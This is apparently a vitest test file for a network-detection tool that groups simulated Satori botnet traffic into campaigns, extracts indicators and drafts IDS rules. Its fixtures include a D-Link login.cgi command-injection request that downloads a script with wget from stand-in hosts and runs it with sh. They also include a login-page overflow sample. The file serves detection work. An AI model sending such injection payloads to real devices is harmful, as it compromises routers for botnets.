import { describe, expect, it } from "vitest";
import { session } from "../detect/campaign-fixture.js";
import { extractIocs } from "../detect/iocs.js";
import { templateOf } from "../detect/template.js";
import type { Alert, RuleInfo } from "../schema/detection.js";
import type { Session } from "../schema/session.js";
import { GPON_REQUEST, httpGet, UC_REQUEST_LINE, ucBody } from "../simulate/payloads.js";
import { sampleText } from "./campaign-state.js";
import { CampaignBuilder } from "./campaigns.js";

const T0 = Date.UTC(2018, 5, 14, 3, 10) / 1000;
const dlink = (host: string): string =>
  `GET /login.cgi?cli=aa%20aa%27;wget%20http://${host}/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\n\r\n`;

const rule: RuleInfo = {
  sid: 9000002,
  gid: 1,
  rev: 1,
  msg: "PORTENT EXPLOIT D-Link DSL-2750B login.cgi cli injection",
  classtype: "attempted-admin",
  category: "",
  priority: 1,
  cve: ["CVE-2016-20017"],
  references: [],
  metadata: {},
};
const alertOn = (s: Session): Alert => ({
  rule,
  ts: s.start,
  proto: "tcp",
  src: s.src,
  sport: s.sport,
  dst: s.dst,
  dport: s.dport,
  sessionId: s.id,
  httpIndex: 0,
});

function satoriMix(): { sessions: Session[]; alerts: Map<Session, Alert[]> } {
  const sessions: Session[] = [];
  const alerts = new Map<Session, Alert[]>();
  for (let i = 0; i < 30; i++) {
    const uc = Buffer.concat([UC_REQUEST_LINE, ucBody(85 + (i % 36))]);
    // 30 uc-httpd sessions from 10 sources (each source three times), Mirai SYNs for 8 of them.
    sessions.push(
      session({
        client: uc,
        src: `192.0.2.${i % 10}`,
        dport: i % 3 === 0 ? 80 : 8000,
        t: T0 + i * 60,
        fingerprint: i % 10 < 8 ? "mirai" : "unknown",
      }),
    );
    const d = session({
      client: dlink(`198.51.100.${i % 3}`),
      src: `198.51.100.${100 + i}`,
      dport: 8080,
      t: T0 + 86400 + i,
    });
    alerts.set(d, [alertOn(d)]);
    sessions.push(d);
  }
  sessions.push(session({ client: GPON_REQUEST, src: "203.0.113.1", dport: 8080, t: T0 }));
  sessions.push(session({ client: httpGet(0xcb007105, 80), src: "203.0.113.2", t: T0 }));
  return { sessions, alerts };
}

function build(b: CampaignBuilder, sessions: Session[], alerts = new Map<Session, Alert[]>()) {
  for (const s of sessions) b.add(s, templateOf(s), extractIocs(s), alerts.get(s) ?? []);
}

describe("CampaignBuilder", () => {
  it("groups the Satori waves into campaigns per DESIGN.md §4", () => {
    const { sessions, alerts } = satoriMix();
    const b = new CampaignBuilder();
    build(b, sessions, alerts);
    const { campaigns, iocs, stats } = b.finish({
      attribute: (ev) =>
        ev.urls.some((u) => u.endsWith("/r"))
          ? { family: "satori", confidence: 0.8, reasons: ["downloader path /r"] }
          : undefined,
    });
    expect(campaigns.map((c) => c.sources)).toEqual([30, 10, 1, 1]);
    const [dl, uc] = campaigns;
    if (dl === undefined || uc === undefined) throw new Error("missing campaigns");
    expect(uc.id).toBe(templateOf(sessions[0] as Session).id);
    expect(uc.template).toBe(uc.id);
    expect(uc.ports).toEqual([80, 8000]);
    expect(uc.sessions).toBe(30);
    expect(uc.first).toBe("2018-06-14T03:10:00.000Z");
    expect(uc.last).toBe("2018-06-14T03:39:01.000Z");
    expect(uc.sample).toBe(
      "POST /login.htm HTTP/1.1\\r\\ncommand=login&username=A{85}&password=PoC\\r\\n\\r\\n",
    );
    expect(uc.fingerprints).toEqual({ mirai: 0.8, unknown: 0.2 });
    expect(uc.cve).toEqual([]);
    expect(uc.family).toBe("unknown");
    expect(uc.draftRule).toMatch(
      /^alert http any any -> \$HOME_NET \[80,8000\] .*content:"\/login\.htm"; startswith;/,
    );
    expect(uc.draftRule).toContain("metadata:created_at 2018_06_14");
    // No other /login.htm template here, yet the draft names the overflow, not just the page.
    expect(uc.draftRule).toContain('content:"command=login&username=AAAA');

    expect(dl.cve).toEqual(["CVE-2016-20017"]);
    expect(dl.sids).toEqual([9000002]);
    expect(dl.alertedSessions).toBe(30);
    expect(dl.draftRule).toBeUndefined();
    expect(dl.family).toBe("satori");
    expect(dl.familyReasons).toEqual(["downloader path /r"]);
    expect(dl.iocs.slice(0, 3)).toEqual([
      "http://198.51.100.0/r",
      "http://198.51.100.1/r",
      "http://198.51.100.2/r",
    ]);
    expect(dl.iocs).toContain("wget http://198.51.100.0/r -O - > /tmp/r; sh /tmp/r");

    const url = iocs.find((i) => i.type === "url" && i.value === "http://198.51.100.1/r");
    expect(url).toEqual({
      type: "url",
      value: "http://198.51.100.1/r",
      first: "2018-06-15T03:10:01.000Z",
      last: "2018-06-15T03:10:28.000Z",
      count: 10,
      campaigns: [dl.id],
    });
    expect(iocs.find((i) => i.type === "filename")?.value).toBe("/tmp/r");
    expect(stats).toMatchObject({
      templates: 4,
      droppedTemplates: 0,
      droppedSessions: 0,
      drafted: 3,
      draftFailed: 0,
    });
  });

  it("stays bounded under many one-off templates and counts what it drops", () => {
    const b = new CampaignBuilder(64);
    const { sessions } = satoriMix();
    const noise: Session[] = [];
    for (let i = 0; i < 2000; i++) {
      // Distinct words make distinct templates: a worst case of one-off payloads.
      const w = `w${String.fromCharCode(97 + (i % 26))}${String.fromCharCode(97 + (((i / 26) | 0) % 26))}${String.fromCharCode(97 + ((i / 676) | 0))}`;
      noise.push(
        session({
          client: `HELLO ${w.replace(/\d/g, "")}x\r\n`,
          src: `203.0.113.${i % 250}`,
          dport: 9000,
        }),
      );
    }
    build(b, [...sessions.slice(0, 20), ...noise, ...sessions.slice(20)]);
    const { campaigns, stats } = b.finish({ limit: 10 });
    expect(stats.templates).toBeLessThanOrEqual(64);
    expect(stats.droppedTemplates).toBeGreaterThan(1000);
    expect(stats.droppedSessions).toBeGreaterThanOrEqual(stats.droppedTemplates);
    expect(campaigns).toHaveLength(10);
    expect(stats.omittedCampaigns).toBe(stats.templates - 10);
    expect(campaigns[0]?.templateText).toContain("/login.cgi?cli=<CMD>");
    expect(campaigns[1]?.templateText).toContain("/login.htm");
    expect(campaigns[1]?.sessions).toBe(30);
  });

  it("writes request samples printably", () => {
    expect(sampleText(Buffer.from("GET /\x00\xff\r\n", "latin1"))).toBe("GET /\\x00\\xff\\r\\n");
    expect(sampleText(Buffer.from(`u=${"B".repeat(300)}&p=1`))).toBe("u=B{300}&p=1");
    expect(sampleText(Buffer.from("x".repeat(5).concat("y".repeat(5)).repeat(60)))).toMatch(
      /^(xxxxxyyyyy){20}\.\.\.$/,
    );
  });
});
